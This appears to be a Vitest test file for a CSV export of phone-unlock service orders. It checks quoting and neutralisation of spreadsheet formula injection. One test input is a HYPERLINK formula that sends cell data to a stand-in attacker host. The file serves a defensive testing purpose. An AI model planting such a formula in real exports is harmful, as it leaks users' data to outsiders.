import { describe, expect, it } from 'vitest';
import type { Order } from './order';
import { ordersCsv } from './ordersCsv';

const translate = (key: string) =>
  (
    ({
      'resources.orders.status.completed': 'Completed',
      'resources.orders.status.pending': 'Pending',
      'resources.orders.no_code': 'No Contestado',
    }) as Record<string, string>
  )[key] ??
  key.split('.').pop() ??
  key;

const order = (fields: Partial<Order>): Order => ({
  id: 1,
  status: 1,
  service_id: 3,
  service: { id: 3, name: 'Unlock' },
  user_id: 5,
  user: { id: 5, name: 'Ana' },
  price: 10,
  imei: '356938035643809',
  code: null,
  reason: null,
  source: 'web',
  created_at: '2026-01-01T10:00:00.000Z',
  updated_at: '2026-01-01T10:05:00.000Z',
  answered_at: null,
  att_response: null,
  ifree_model: null,
  phase: false,
  other_phase: false,
  fields: null,
  ...fields,
});

describe('ordersCsv', () => {
  it('writes a header and one line per order, with No Contestado for a missing code', () => {
    const csv = ordersCsv(
      [order({ id: 7 }), order({ id: 8, status: 4, code: 'C-1', price: 2.5 })],
      translate,
    );
    expect(csv.split('\r\n')).toEqual([
      'id,status,service,user,imei,code,price,created_at,updated_at',
      '7,Pending,Unlock,Ana,356938035643809,No Contestado,10.00,2026-01-01T10:00:00.000Z,2026-01-01T10:05:00.000Z',
      '8,Completed,Unlock,Ana,356938035643809,C-1,2.50,2026-01-01T10:00:00.000Z,2026-01-01T10:05:00.000Z',
    ]);
  });

  it('quotes fields with commas, quotes and line breaks', () => {
    const csv = ordersCsv([order({ service: { id: 3, name: 'Unlock, "fast"\nnow' } })], translate);
    expect(csv.split('\r\n')[1]).toContain('"Unlock, ""fast""\nnow"');
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?d="&E2&F2,"Click")'],
    ['+', '+1+1'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A2)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('writes a cell that begins with %s as text, with a leading apostrophe', (_, hostile) => {
    const csv = ordersCsv(
      [order({ user: { id: 5, name: hostile }, service: { id: 3, name: hostile }, code: hostile })],
      translate,
    );
    const line = csv.split('\r\n').slice(1).join('\r\n');
    expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    expect(line).toContain(`'${hostile.replace(/"/g, '""')}`);
  });

  it('leaves ordinary text and numbers as they are', () => {
    const csv = ordersCsv([order({ user: { id: 5, name: 'Ana-María' }, price: 5 })], translate);
    expect(csv.split('\r\n')[1]).toMatch(
      /^1,Pending,Unlock,Ana-María,356938035643809,No Contestado,5\.00,/,
    );
  });
});
